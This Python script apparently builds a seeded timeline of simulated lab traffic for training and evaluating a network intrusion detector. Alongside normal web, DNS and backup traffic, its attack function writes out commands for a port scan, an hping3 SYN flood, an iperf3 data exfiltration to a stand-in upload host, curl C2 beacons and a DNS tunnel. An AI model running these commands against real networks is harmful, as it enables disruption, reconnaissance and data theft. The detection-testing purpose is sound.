#!/usr/bin/env python3
"""Seeded timeline of the lab: which commands run in which namespace, when, for the training and evaluation phases.

Real time is cut into WINDOWS of a few seconds. Every window stands for a moment of SIMULATED time (its sim_start):
the phase's simulated days are sampled with a diurnal/weekly intensity, so daytime moments get more windows than
nights and weekends, and each window's activity (how many requests of each kind) is drawn from the intensity at its
simulated moment. Every night gets a backup window near 02:00. After the run, timewarp.py shifts every packet of a
window by (sim_start - real_start) of that window, so packets keep their real spacing inside a window and the
capture spans days. Events of a window end before the window does (their timeouts are bounded by it), so a
session never straddles two windows. Attacks get windows of their own (with normal traffic of other VMs in them).

The output is JSON; the same arguments always give the same file. Namespaces are named logically (acme-web1, xcli);
the executor adds the run's prefix. Placeholders in argv: {py} python, {here} this directory, {content} web roots.
"""
import argparse
import calendar
import json
import math
import random

import labdef

NORMAL_LEN = 12.0
BACKUP_LEN = 16.0
ATTACK_LEN = {"portscan": 14.0, "synflood": 12.0, "exfil": 18.0, "c2": 40.0, "dnstunnel": 20.0, "lateral": 16.0}
ATTACK_TYPES = list(ATTACK_LEN)
DAY = 86400


def intensity(sim_t):
    """Relative activity at a simulated UTC time: office-hours peak on weekdays, low nights, quieter weekends."""
    wday = (int(sim_t // DAY) + 3) % 7  # 1970-01-01 was a Thursday; 0 = Monday
    h = (sim_t % DAY) / 3600.0
    day_shape = math.exp(-((h - 13.5) / 3.6) ** 2)  # broad midday peak
    evening = 0.35 * math.exp(-((h - 20.5) / 1.8) ** 2)
    base = 0.08
    weekend = wday >= 5
    return base + (0.45 if weekend else 1.0) * (0.85 * day_shape + evening)


def poisson(rnd, lam):
    # Knuth; lam is small here
    limit, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= rnd.random()
        if p <= limit:
            return k
        k += 1


class Builder:
    def __init__(self, rnd, args):
        self.rnd = rnd
        self.args = args
        self.vms = list(labdef.vms())
        self.by_tenant = {}
        for v in self.vms:
            self.by_tenant.setdefault(v["tenant"], {})[v["short"]] = v

    def ev(self, events, t, ns, timeout, argv, label=None, length=NORMAL_LEN):
        t = round(min(t, max(0.1, length - timeout - 1.0)), 3)
        e = {"t": t, "ns": ns, "timeout": round(timeout, 2), "argv": argv}
        if label:
            e["label"] = label
        events.append(e)

    def start(self, length, dur):
        return self.rnd.uniform(0.1, max(0.2, length - dur - 1.2))

    # ---------------------------------------------------------------- normal behaviour per role
    def normal(self, sim_t, length, backup=False):
        r, ev, events = self.rnd, self.ev, []
        inten = intensity(sim_t)
        dns_names = ["www.example.test", "cdn.example.test", "api.partner.test", "mail.example.test",
                     "ntp.example.test", "deb.mirror.test", "vault.backup.test"]
        dns_weights = [30, 22, 12, 10, 8, 5, 3]
        for tenant, (vni, public) in labdef.TENANTS.items():
            vm = self.by_tenant[tenant]
            ns = lambda short: f"{tenant}-{short}"  # noqa: E731
            # internet customers browse the tenant's site through the gateway's DNAT (public:80 -> web1/web2)
            for _ in range(poisson(r, 4.0 * inten)):
                pages = [f"http://{public}/"] + [f"http://{public}/static/{x}" for x in
                                                 r.sample(["app.js", "style.css"], r.randint(0, 2))]
                pages += [f"http://{public}/img/p{r.randint(1, 8)}.bin" for _ in range(r.randint(0, 2))]
                ev(events, self.start(length, 4), "xcli", 5, ["curl", "-s", "-o", "/dev/null", "-m", "4"] + pages,
                   length=length)
            # web tier calls the API
            for web in ("web1", "web2"):
                for _ in range(poisson(r, 2.5 * inten)):
                    urls = [f"http://10.0.0.21:8080/items/{r.randint(1, 40)}.json" for _ in range(r.randint(1, 3))]
                    ev(events, self.start(length, 3), ns(web), 4,
                       ["curl", "-s", "-o", "/dev/null", "-m", "3"] + urls, length=length)
                if r.random() < 0.15:
                    ev(events, self.start(length, 2), ns(web), 3, ["ping", "-c", "2", "-i", "0.3", "-W", "1",
                                                                  "10.0.0.21"], length=length)
            # API tier queries the database and, less often, a partner API on the internet (by name)
            for _ in range(poisson(r, 2.5 * inten)):
                sizes = [str(max(16, int(min(300_000, r.lognormvariate(7.5, 1.3)) * self.args.volume)))
                         for _ in range(r.randint(2, 8))]
                ev(events, self.start(length, 4), ns("api1"), 5,
                   ["{py}", "{here}/services/dbclient.py", "10.0.0.31", "5432", f"{r.uniform(0.02, 0.2):.3f}"] + sizes,
                   length=length)
            for _ in range(poisson(r, 0.7 * inten)):
                ev(events, self.start(length, 3), ns("api1"), 4,
                   ["curl", "-s", "-o", "/dev/null", "-m", "3", "http://api.partner.test/v1/partner.json"],
                   length=length)
            # the workstation / DNS client: lookups, browsing outside (by name), the intranet
            for _ in range(poisson(r, 2.5 * inten + 0.3)):
                name = r.choices(dns_names, dns_weights)[0]
                if r.random() < 0.08:
                    name = f"host{r.randint(1, 99)}.example.test"  # NXDOMAIN
                qtype = r.choices(["A", "AAAA", "MX"], [80, 15, 5])[0]
                ev(events, self.start(length, 2), ns("ws1"), 3,
                   ["dig", "+time=1", "+tries=1", "@203.0.113.53", name, qtype], length=length)
            for _ in range(poisson(r, 1.2 * inten)):
                urls = ["http://www.example.test/"] + [f"http://cdn.example.test/cdn/asset-{r.randint(1, 5)}.bin"
                                                       for _ in range(r.randint(0, 3))]
                ev(events, self.start(length, 4), ns("ws1"), 5, ["curl", "-s", "-o", "/dev/null", "-m", "4"] + urls,
                   length=length)
            for _ in range(poisson(r, 0.6 * inten)):
                ev(events, self.start(length, 3), ns("ws1"), 4,
                   ["curl", "-s", "-o", "/dev/null", "-m", "3", "http://10.0.0.11/", "http://10.0.0.11/static/app.js"],
                   length=length)
            # batch: daytime report export from the API
            if r.random() < 0.25 * inten:
                ev(events, self.start(length, 4), ns("bak1"), 5,
                   ["curl", "-s", "-o", "/dev/null", "-m", "4", "http://10.0.0.21:8080/export/report.csv"],
                   length=length)
            # any VM, rarely: package update from the mirror
            for short in ("web1", "web2", "api1", "db1", "ws1", "bak1"):
                if r.random() < 0.02 + (0.1 if backup else 0.0):
                    ev(events, self.start(length, 4), ns(short), 5,
                       ["curl", "-s", "-o", "/dev/null", "-m", "4", f"http://deb.mirror.test/pkgs/update-{r.randint(1, 5)}.deb"],
                       length=length)
        if backup:
            # nightly backup: pull from the tenant's database, push to the external vault (one tenant at a time,
            # the vault's iperf3 server takes one test at a time)
            vol = self.args.volume
            for i, tenant in enumerate(labdef.TENANTS):
                kb_pull = max(64, int(r.randint(3, 6) * 1024 * vol))
                kb_push = max(64, int(r.randint(2, 5) * 1024 * vol))
                ev(events, 0.3 + i * 7.0, f"{tenant}-bak1", 6.5,
                   ["bash", "-c", f"iperf3 -c 10.0.0.31 -p 5201 -R -n {kb_pull}K -b 40M >/dev/null; "
                                  f"iperf3 -c vault.backup.test -p 5201 -n {kb_push}K -b 40M >/dev/null"],
                   length=length)
        return events

    # ---------------------------------------------------------------- attacks
    def attack(self, kind, length):
        r, events = self.rnd, []
        tenant = r.choice(list(labdef.TENANTS))
        vni = labdef.TENANTS[tenant][0]
        vm = self.by_tenant[tenant]
        t0 = round(r.uniform(0.5, 1.5), 3)
        dur = length - t0 - 1.5
        def remote(*shorts):
            # a target on another hypervisor than the attacker, so the attack crosses the underlay (traffic between
            # two VMs of one hypervisor stays on that hypervisor's bridge and is not in the underlay capture)
            cands = [vm[s] for s in shorts if vm[s]["hv"] != a["hv"]]
            return cands[0] if cands else vm[shorts[0]]

        if kind == "portscan":
            a = vm["ws1"]
            tgt = remote("db1", "api1", "web1", "web2")
            argv = ["nmap", "-n", "-Pn", "-sS", "-p", "1-1024", "--max-rate", "150", "--max-retries", "1",
                    tgt["ip"]]
            target, notes = tgt["ip"], "TCP SYN scan ports 1-1024, max 150 probes/s"
        elif kind == "synflood":
            a = vm["bak1"]
            tgt = remote("web1", "web2")
            count = self.args.flood_count
            argv = ["hping3", "-q", "-S", "-p", "80", "-c", str(count), "-i", "u2000", tgt["ip"]]
            target, notes = f"{tgt['ip']}:80", f"hping3 SYN flood, {count} SYNs at ~500/s, real source address"
        elif kind == "exfil":
            a = vm["db1"]
            mb = self.args.exfil_mb
            argv = ["bash", "-c", "dig +short +time=1 +tries=1 upload.filedrop.test >/dev/null; "
                                  f"iperf3 -c upload.filedrop.test -p 443 -n {int(mb * 1024)}K -b 80M >/dev/null"]
            target = "203.0.113.77:443"
            notes = f"{mb} MB upload to upload.filedrop.test, never contacted before; NAT public {labdef.TENANTS[tenant][1]}"
        elif kind == "c2":
            a = vm["api1"]
            period = 4.0
            n = max(2, int(dur // period))
            parts, acc = [], 0.0
            for i in range(n):
                parts.append("curl -s -o /dev/null -m 1.5 "
                             f"'http://telemetry.cdn-metrics.test:8443/beacon?s={r.randrange(16**8):08x}'")
                if i < n - 1:
                    gap = period * r.uniform(0.75, 1.25)
                    if acc + gap + 2 > dur:
                        break
                    acc += gap
                    parts.append(f"sleep {gap - 0.05:.3f}")
            argv = ["bash", "-c", "; ".join(parts)]
            target = "203.0.113.66:8443"
            notes = (f"{sum(p.startswith('curl') for p in parts)} HTTP beacons to telemetry.cdn-metrics.test, "
                     f"period {period:.0f}s +-25% jitter; NAT public {labdef.TENANTS[tenant][1]}")
        elif kind == "dnstunnel":
            a = vm["ws1"]
            alphabet = "abcdefghijklmnopqrstuvwxyz234567"
            batches, per = 10, 20
            cmds, seq = [], 0
            for b in range(batches):
                qs = []
                for _ in range(per):
                    l1 = "".join(r.choice(alphabet) for _ in range(r.randint(48, 62)))
                    l2 = "".join(r.choice(alphabet) for _ in range(r.randint(20, 40)))
                    qtype = "TXT" if r.random() < 0.3 else "A"
                    qs.append(f"{l1}.{l2}.{seq:04x}.{labdef.TUNNEL_DOMAIN} {qtype}")
                    seq += 1
                cmds.append("dig +time=1 +tries=1 @203.0.113.53 " + " ".join(qs) + " >/dev/null")
                if b < batches - 1:
                    cmds.append(f"sleep {r.uniform(0.8, 1.4):.3f}")
            argv = ["bash", "-c", "; ".join(cmds)]
            target = "203.0.113.53:53"
            notes = f"{batches * per} A/TXT queries with long random labels under {labdef.TUNNEL_DOMAIN}"
        elif kind == "lateral":
            a = vm["web2"]
            targets = [v["ip"] for v in vm.values() if v["name"] != a["name"]] + ["10.0.0.13", "10.0.0.22",
                                                                                  "10.0.0.32", "10.0.0.42"]
            argv = ["nmap", "-n", "-Pn", "-sT", "-p", "22,135,445,3389,5985,5986", "--max-rate", "60",
                    "--max-retries", "1", "--host-timeout", "8s"] + targets
            target = " ".join(targets)
            notes = "TCP connect attempts to admin ports 22,135,445,3389,5985,5986 on internal hosts"
        else:
            raise ValueError(kind)
        label = {"type": kind, "attacker_vm": a["name"], "tenant": tenant, "vni": vni, "attacker_ip": a["ip"],
                 "target": target, "notes": notes}
        self.ev(events, t0, a["name"], round(dur, 2), argv, label=label, length=length)
        return events


def build_phase(b, rnd, name, real_seconds, sim0, days, attacks):
    sim_end = sim0 + days * DAY
    windows = []
    used = sum(ATTACK_LEN[a] for a in attacks)
    free = max(0.0, real_seconds - used)
    n_normal = int(free // NORMAL_LEN)
    # attacks: spread over the phase at seeded moments
    att = list(attacks)
    rnd.shuffle(att)
    for i, kind in enumerate(att):
        s = sim0 + (i + rnd.uniform(0.15, 0.85)) / len(att) * days * DAY
        windows.append({"sim_start": int(s), "length": ATTACK_LEN[kind], "kind": "attack", "attack": kind})
    # one backup window per simulated night (01:30-03:00) while there are windows for it
    n_backup = min(int(days), n_normal)
    for d in range(n_backup):
        s = sim0 + d * DAY + rnd.uniform(1.5, 3.0) * 3600
        windows.append({"sim_start": int(s), "length": BACKUP_LEN, "kind": "backup"})
    n_rest = n_normal - n_backup
    if n_rest > 0:
        # stratified samples of the diurnal intensity over the phase (inverse CDF over 1-minute bins)
        bins = int((sim_end - sim0) // 60)
        cdf, acc = [], 0.0
        for i in range(bins):
            acc += intensity(sim0 + i * 60 + 30)
            cdf.append(acc)
        j = 0
        for k in range(n_rest):
            u = (k + rnd.random()) / n_rest * acc
            while j < bins - 1 and cdf[j] < u:
                j += 1
            windows.append({"sim_start": int(sim0 + j * 60 + rnd.uniform(0, 60)), "length": NORMAL_LEN,
                            "kind": "normal"})
    windows.sort(key=lambda w: w["sim_start"])
    # keep simulated gaps at least the real window length plus slack, so the warp never reorders packets
    for i in range(1, len(windows)):
        min_start = windows[i - 1]["sim_start"] + int(windows[i - 1]["length"]) + 30
        windows[i]["sim_start"] = max(windows[i]["sim_start"], min_start)
    for i, w in enumerate(windows):
        w["id"] = i
        w["events"] = b.normal(w["sim_start"], w["length"], backup=(w["kind"] == "backup"))
        if w["kind"] == "attack":
            w["events"] += b.attack(w["attack"], w["length"])
        w["events"].sort(key=lambda e: e["t"])
    real = sum(w["length"] for w in windows)
    return {"real_seconds": real, "sim_start": sim0, "sim_days": days, "windows": windows}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--train-minutes", type=float, default=5)
    ap.add_argument("--eval-minutes", type=float, default=5)
    ap.add_argument("--days-train", type=float, default=3)
    ap.add_argument("--days-eval", type=float, default=2)
    ap.add_argument("--attacks", default=",".join(ATTACK_TYPES))
    ap.add_argument("--exfil-mb", type=float, default=30)
    ap.add_argument("--volume", type=float, default=1.0, help="scale of normal transfer sizes (backups, DB rows)")
    ap.add_argument("--flood-count", type=int, default=2500)
    ap.add_argument("--start-date", default="2025-03-03")
    ap.add_argument("--out", required=True)
    a = ap.parse_args()
    attacks = [x for x in a.attacks.split(",") if x]
    for x in attacks:
        if x not in ATTACK_LEN:
            raise SystemExit(f"schedule.py: unknown attack {x}; known: {','.join(ATTACK_TYPES)}")
    y, m, d = (int(x) for x in a.start_date.split("-"))
    sim0 = calendar.timegm((y, m, d, 0, 0, 0))
    rnd = random.Random(a.seed)
    b = Builder(rnd, a)
    tl = {"seed": a.seed, "start_date": a.start_date, "phases": {}}
    tl["phases"]["train"] = build_phase(b, rnd, "train", a.train_minutes * 60, sim0, a.days_train, [])
    tl["phases"]["eval"] = build_phase(b, rnd, "eval", a.eval_minutes * 60, sim0 + int(a.days_train * DAY),
                                       a.days_eval, attacks)
    with open(a.out, "w") as f:
        json.dump(tl, f, indent=1)


if __name__ == "__main__":
    main()
